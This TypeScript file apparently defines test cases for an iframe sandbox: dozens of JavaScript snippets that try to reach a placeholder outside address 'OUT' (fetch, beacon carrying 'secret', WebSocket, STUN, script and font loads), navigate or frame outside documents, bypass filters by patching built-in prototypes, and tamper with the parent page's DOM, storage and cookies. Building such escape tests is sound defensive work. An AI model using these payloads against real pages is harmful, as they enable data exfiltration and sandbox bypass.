/** A way in which edited code might get out of its frame. */
export interface Escape {
  name: string;
  /** The body of an async function. OUT is an address of the outside, WS its socket, STUN its datagrams. */
  code: string;
}

const append = (element: string, fields: string) =>
  `document.body.append(Object.assign(document.createElement('${element}'), ${fields}));`;
const html = (text: string) =>
  `const box = document.createElement('div'); document.body.append(box); box.innerHTML = \`${text}\`;`;
const style = (text: string) => append('style', `{ textContent: \`${text}\` }`);
const stun = (scope: string) =>
  `const peer = new ${scope}RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); peer.createDataChannel('a'); await peer.setLocalDescription(await peer.createOffer());`;

/** Asks an address of the outside for something. */
const requests: Escape[] = [
  { name: 'fetch', code: `await fetch('OUT/a');` },
  {
    name: 'fetch that outlives its page',
    code: `await fetch('OUT/a', { keepalive: true, mode: 'no-cors' });`,
  },
  {
    name: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('GET', 'OUT/a'); request.send();`,
  },
  { name: 'WebSocket', code: `new WebSocket('WS/a');` },
  { name: 'EventSource', code: `new EventSource('OUT/a');` },
  { name: 'beacon', code: `navigator.sendBeacon('OUT/a', 'secret');` },
  { name: 'image', code: `new Image().src = 'OUT/a';` },
  { name: 'image in HTML', code: html('<img srcset="OUT/a 1x">') },
  { name: 'image of an input', code: append('input', `{ type: 'image', src: 'OUT/a' }`) },
  { name: 'image in SVG', code: html('<svg><image href="OUT/a" width="9" height="9"/></svg>') },
  { name: 'video', code: append('video', `{ src: 'OUT/a', preload: 'auto' }`) },
  { name: 'poster', code: append('video', `{ poster: 'OUT/a' }`) },
  { name: 'audio', code: `new Audio('OUT/a').load();` },
  { name: 'script', code: append('script', `{ src: 'OUT/a' }`) },
  { name: 'module', code: `await import('OUT/a');` },
  {
    name: 'module in a script of its own',
    code: append('script', `{ type: 'module', textContent: "import 'OUT/a'" }`),
  },
  { name: 'style sheet', code: append('link', `{ rel: 'stylesheet', href: 'OUT/a' }`) },
  { name: 'style sheet in HTML', code: html('<link rel="stylesheet" href="OUT/a">') },
  { name: 'preload', code: append('link', `{ rel: 'preload', as: 'image', href: 'OUT/a' }`) },
  { name: 'module preload', code: append('link', `{ rel: 'modulepreload', href: 'OUT/a' }`) },
  { name: 'prefetch', code: append('link', `{ rel: 'prefetch', href: 'OUT/a' }`) },
  { name: 'import in a style sheet', code: style(`@import url('OUT/a');`) },
  { name: 'background', code: style(`body { background: url('OUT/a') }`) },
  {
    name: 'list marker in an attribute',
    code: html('<ul style="list-style-image: url(OUT/a)"><li>a</li></ul>'),
  },
  {
    name: 'font',
    code: `${style(`@font-face { font-family: 'A'; src: url('OUT/a') }`)} await document.fonts.load('9px A');`,
  },
  { name: 'font made by a script', code: `await new FontFace('A', "url('OUT/a')").load();` },
  {
    name: 'ping of a link',
    code: `${append('a', `{ ping: 'OUT/a', href: '#a' }`)} document.body.lastChild.click();`,
  },
  { name: 'worker', code: `new Worker(URL.createObjectURL(new Blob(["fetch('OUT/a')"])));` },
  {
    name: 'worker that loads a script',
    code: `new Worker(URL.createObjectURL(new Blob(["importScripts('OUT/a')"])));`,
  },
  {
    name: 'shared worker',
    code: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('OUT/a')"])));`,
  },
  { name: 'datagrams of WebRTC', code: stun('') },
  { name: 'datagrams of WebRTC, asked for by its old name', code: stun('webkit') },
];

/** Opens a document of the outside, here or elsewhere. */
const documents: Escape[] = [
  { name: 'address of the frame', code: `location.href = 'OUT/a';` },
  {
    name: 'address of the frame, replaced later',
    code: `setTimeout(() => location.replace('OUT/a'));`,
  },
  {
    name: 'address of the frame, without its listeners',
    code: `document.open(); location.href = 'OUT/a';`,
  },
  {
    name: 'refresh',
    code: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=OUT/a'; document.head.append(meta);`,
  },
  { name: 'refresh in HTML', code: html('<meta http-equiv="refresh" content="0;url=OUT/a">') },
  { name: 'link', code: `${append('a', `{ href: 'OUT/a' }`)} document.body.lastChild.click();` },
  {
    name: 'link in SVG',
    code: `${html('<svg><a href="OUT/a"><text>a</text></a></svg>')} box.querySelector('a').dispatchEvent(new MouseEvent('click'));`,
  },
  {
    name: 'link to a download',
    code: `${append('a', `{ href: 'OUT/a', download: 'a' }`)} document.body.lastChild.click();`,
  },
  {
    name: 'form',
    code: `const form = document.createElement('form'); form.action = 'OUT/a'; form.method = 'post'; document.body.append(form); form.submit();`,
  },
  {
    name: 'form in its own frame',
    code: `${html('<form action="OUT/a" target="_self"><button>a</button></form>')} box.querySelector('button').click();`,
  },
  { name: 'window', code: `open('OUT/a');` },
  { name: 'window that is this one', code: `open('OUT/a', '_self');` },
  { name: 'window that is the page', code: `open('OUT/a', '_top');` },
  { name: 'address of the page', code: `top.location = 'OUT/a';` },
  { name: 'address of the page above', code: `parent.location.replace('OUT/a');` },
  {
    name: 'link for the page',
    code: `${append('a', `{ href: 'OUT/a', target: '_top' }`)} document.body.lastChild.click();`,
  },
  { name: 'frame in the frame', code: append('iframe', `{ src: 'OUT/a' }`) },
  { name: 'frame in the frame, in HTML', code: html('<b><iframe src="OUT/a"></iframe></b>') },
  {
    name: 'frame in the frame, in capitals',
    code: `document.body.append(Object.assign(document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'), { src: 'OUT/a' })); document.createElement('IFRAME');`,
  },
  {
    name: 'empty frame that is sent away',
    code: `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location = 'OUT/a';`,
  },
  { name: 'frame of other HTML', code: append('iframe', `{ srcdoc: '<img src="OUT/a">' }`) },
  {
    name: 'frame from parsed HTML',
    code: `document.body.append(new DOMParser().parseFromString('<iframe src="OUT/a"></iframe>', 'text/html').body.firstChild);`,
  },
  {
    name: 'frame from XML',
    code: `const box = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'div').documentElement; box.innerHTML = '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" src="OUT/a"/>'; document.body.append(document.adoptNode(box.firstChild));`,
  },
  {
    name: 'frame from a style sheet for XML',
    code: `const processor = new XSLTProcessor(); processor.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe src="OUT/a"/></xsl:template></xsl:stylesheet>', 'text/xml')); document.body.append(processor.transformToFragment(document.implementation.createDocument('', 'a'), document));`,
  },
  {
    name: 'frame from a range',
    code: `document.body.append(document.createRange().createContextualFragment('<iframe src="OUT/a"></iframe>'));`,
  },
  {
    name: 'frame that is an element of its own',
    code: `class Own extends HTMLIFrameElement {} customElements.define('own-frame', Own, { extends: 'iframe' }); const own = new Own(); own.src = 'OUT/a'; document.body.append(own);`,
  },
  {
    name: 'frame through tools that were replaced',
    code: `const seen = []; const { call } = Function.prototype; const { toLowerCase, slice } = String.prototype; const { exec, test } = RegExp.prototype; Function.prototype.call = function (...all) { seen.push(this); return Reflect.apply(call, this, all); }; String.prototype.toLowerCase = () => 'b'; String.prototype.slice = () => 'b'; RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; const make = () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'OUT/a' })); const write = () => document.body.insertAdjacentHTML('beforeend', '<iframe src="OUT/a"></iframe>'); try { for (const way of [make, write]) { try { way(); } catch {} } } finally { Function.prototype.call = call; Object.assign(String.prototype, { toLowerCase, slice }); Object.assign(RegExp.prototype, { exec, test }); } for (const found of seen) { try { document.body.append(Object.assign(Reflect.apply(found, document, ['iframe']), { src: 'OUT/a' })); } catch {} }`,
  },
  { name: 'object', code: append('object', `{ data: 'OUT/a' }`) },
  { name: 'embedded document', code: append('embed', `{ src: 'OUT/a' }`) },
  { name: 'written document', code: `document.write('<img src="OUT/a">');` },
  { name: 'navigation', code: `navigation.navigate('OUT/a');` },
  {
    name: 'address before any script could listen',
    code: `Object.defineProperty(EventTarget.prototype, 'addEventListener', { value() {} }); addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true); location.assign('OUT/a');`,
  },
];

/** Changes or reads the page that holds the frame. */
const page: Escape[] = [
  { name: 'title of the page', code: `parent.document.title = 'escaped';` },
  { name: 'content of the page', code: `top.document.body.dataset.escaped = '1';` },
  { name: 'global of the page', code: `parent.escaped = 1;` },
  { name: 'name of the page', code: `parent.name = 'escaped';` },
  { name: 'prototypes of the page', code: `parent.Object.prototype.escaped = 1;` },
  { name: 'hash of the page', code: `parent.location.hash = 'escaped';` },
  { name: 'code in the page', code: `parent.eval('window.escaped = 1');` },
  {
    name: 'script address of the page',
    code: `parent.location = 'javascript:void(window.escaped = 1)';`,
  },
  {
    name: "the frame's own element",
    code: `frameElement.ownerDocument.body.dataset.escaped = '1';`,
  },
  { name: 'local storage of the page', code: `parent.localStorage.setItem('escaped', '1');` },
  { name: 'local storage', code: `localStorage.setItem('escaped', '1');` },
  { name: 'session storage', code: `sessionStorage.setItem('escaped', '1');` },
  { name: 'cookie', code: `document.cookie = 'escaped=1;path=/';` },
  { name: 'cookie store', code: `await cookieStore.set('escaped', '1');` },
  {
    name: 'database',
    code: `await new Promise((resolve) => (indexedDB.open('escaped').onsuccess = resolve));`,
  },
  { name: 'cache', code: `await caches.open('escaped');` },
  {
    name: 'files of the origin',
    code: `await (await navigator.storage.getDirectory()).getFileHandle('escaped', { create: true });`,
  },
  { name: 'channel', code: `new BroadcastChannel('escaped').postMessage(1);` },
  {
    name: 'lock',
    code: `navigator.locks.request('escaped', () => new Promise(() => {})); await navigator.locks.query();`,
  },
  { name: 'history', code: `history.back();` },
  { name: 'history of the page', code: `parent.history.back();` },
  { name: 'message box', code: `alert('escaped');` },
  { name: 'question', code: `prompt('escaped');` },
  {
    name: 'download',
    code: `${append('a', `{ href: URL.createObjectURL(new Blob(['a'])), download: 'escaped' }`)} document.body.lastChild.click();`,
  },
  {
    name: 'focus',
    code: `${append('input', `{ id: 'thief' }`)} document.getElementById('thief').focus();`,
  },
  {
    name: 'focus by selecting',
    code: `${append('input', `{ id: 'thief', value: 'a' }`)} document.getElementById('thief').select();`,
  },
  {
    name: 'focus by a label',
    code: `${html('<label for="thief">a</label><input id="thief">')} box.querySelector('label').click();`,
  },
  {
    name: 'focus by a dialog',
    code: `${html('<dialog><input></dialog>')} box.querySelector('dialog').showModal();`,
  },
];

/** Every attempt, in groups that are tried together. */
export const escapes = { requests, documents, page };
